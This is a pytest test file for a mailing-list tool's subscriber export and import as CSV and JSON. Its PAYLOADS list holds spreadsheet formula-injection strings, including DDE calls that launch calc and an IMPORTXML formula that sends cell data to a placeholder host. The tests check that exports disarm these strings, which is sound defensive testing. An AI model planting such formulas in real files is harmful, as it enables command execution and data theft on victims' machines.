"""Lists of the ledger come in and go out, as CSV and JSON."""

from __future__ import annotations

import csv
import io
import json
import os
import tracemalloc
from pathlib import Path

import pytest

from postroom.cli.export import _write_csv, _write_json
from postroom.model import Recipient
from postroom.outbox import subscribers


@pytest.fixture
def stocked(office, postroom):
    """A project whose ledger keeps three people."""
    office.subscribers(3)
    assert postroom("subscribers", "import", str(office.folder / "subscribers.csv")).code == 0
    return office


def table(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_a_dash_is_stdout(stocked, postroom, monkeypatch) -> None:
    monkeypatch.chdir(stocked.folder)
    whole = postroom("subscribers", "export")
    assert whole.out.count("@example.org") == 3
    assert postroom("subscribers", "export", "--to", "-") == whole
    assert not (stocked.folder / "-").exists()


def test_a_file_with_a_name_is_written_for_its_owner_alone(stocked, postroom) -> None:
    file = stocked.folder / "people.csv"
    file.write_text("old " * 1000)
    file.chmod(0o644)
    answer = postroom("subscribers", "export", "--to", str(file))
    assert (answer.code, answer.told) == (0, f"3 subscribers written to {file}")
    assert file.read_text().count("@example.org") == 3
    assert "old" not in file.read_text()
    assert file.stat().st_mode & 0o777 == 0o600


def test_the_help_says_that_all_is_a_name(postroom) -> None:
    assert "without it the list that is named `all`" in postroom("subscribers", "export", "--help").told


def test_every_column_that_anybody_has_comes_out_and_goes_in_again(office, postroom) -> None:
    office.write("a.csv", 'email,name,tags,language\nada@example.org,Ada,"x, y",de\n')
    office.write("b.csv", "email,town\nbea@example.org,Bern\n")
    for name in ("a.csv", "b.csv"):
        assert postroom("subscribers", "import", str(office.folder / name), "--list", "weekly").code == 0
    ada, bea = table(postroom("subscribers", "export", "weekly").out)
    assert (ada["email"], ada["name"], ada["tags"], ada["language"]) == (
        "ada@example.org",
        "Ada",
        "x, y",
        "de",
    )
    assert (ada["town"], bea["town"]) == ("", "Bern")
    file = office.folder / "again.csv"
    postroom("subscribers", "export", "weekly", "--to", str(file))
    again = postroom("subscribers", "import", str(file), "--list", "copy")
    assert "2 added" in again.told


def test_json_is_a_list_of_objects_that_goes_in_again(stocked, postroom) -> None:
    told = postroom("subscribers", "export", "--json").out
    people = json.loads(told)
    assert [one["email"] for one in people] == [f"reader{number}@example.org" for number in range(3)]
    assert people[0]["name"] == "Reader 0"
    assert people[0]["tags"] == []
    stocked.write("again.json", told)
    done = postroom("subscribers", "import", str(stocked.folder / "again.json"), "--list", "copy")
    assert "3 added" in done.told


def test_a_list_of_nobody_says_which_have_somebody(stocked, postroom) -> None:
    answer = postroom("subscribers", "export", "wekly", "--json")
    assert (answer.code, answer.out) == (0, "[]\n")
    assert "nobody is on the list 'wekly'; lists that have somebody: all" in answer.err


def test_raw_goes_with_csv(stocked, postroom) -> None:
    assert postroom("subscribers", "export", "--json", "--raw").code == 2


PAYLOADS = [
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x","y")', "＝1", "＋1",
    "－1", "＠x", " =1", "'=1", "''=1", "=", "-", "+", "@", "@@", "-2+3+cmd|' /C calc'!D2", "+441234567",
    '=IMPORTXML(CONCAT("http://x?v=",A1),"//a")', "\u00a0=1", " \t@x", '="a""b"', "=A1\n=B1", "\r=1", "\n=1",
    "=DDE(\"cmd\";\"/C calc\")", "@x",
]  # fmt: skip


def test_thirty_payloads_come_out_disarmed_unless_asked_for_raw(office, postroom) -> None:
    people = [
        Recipient(
            address=f"a{number}@example.org",
            identity=f"a{number}@example.org",
            domain="example.org",
            name="A",
            merge={"note": each},
        )
        for number, each in enumerate(PAYLOADS)
    ]
    assert len(PAYLOADS) == 30
    with office.ledger() as ledger:
        subscribers.import_rows(ledger, "all", people, "x.csv", office.now)
    file = office.folder / "out.csv"
    postroom("subscribers", "export", "--to", str(file))
    for row in table(file.read_bytes().decode()):
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")), cell
    postroom("subscribers", "export", "--raw", "--to", str(file))
    assert [row["note"] for row in table(file.read_bytes().decode())] == PAYLOADS


def test_memory_does_not_grow_with_a_list(office) -> None:
    def most(number: int) -> int:
        people = (
            Recipient(
                address=f"a{each}@example.org",
                identity=f"a{each}@example.org",
                domain="example.org",
                name="A" * 50,
                merge={"note": "x" * 200},
            )
            for each in range(number)
        )
        with office.ledger() as ledger, Path(os.devnull).open("w") as nowhere:
            subscribers.import_rows(ledger, str(number), people, "x.csv", office.now)
            tracemalloc.start()
            assert _write_csv(ledger, str(number), nowhere, raw=False) == number
            assert _write_json(ledger, str(number), nowhere) == number
            _, peak = tracemalloc.get_traced_memory()
            tracemalloc.stop()
        return peak

    few = most(4_000)
    assert most(24_000) < few + 2_000_000
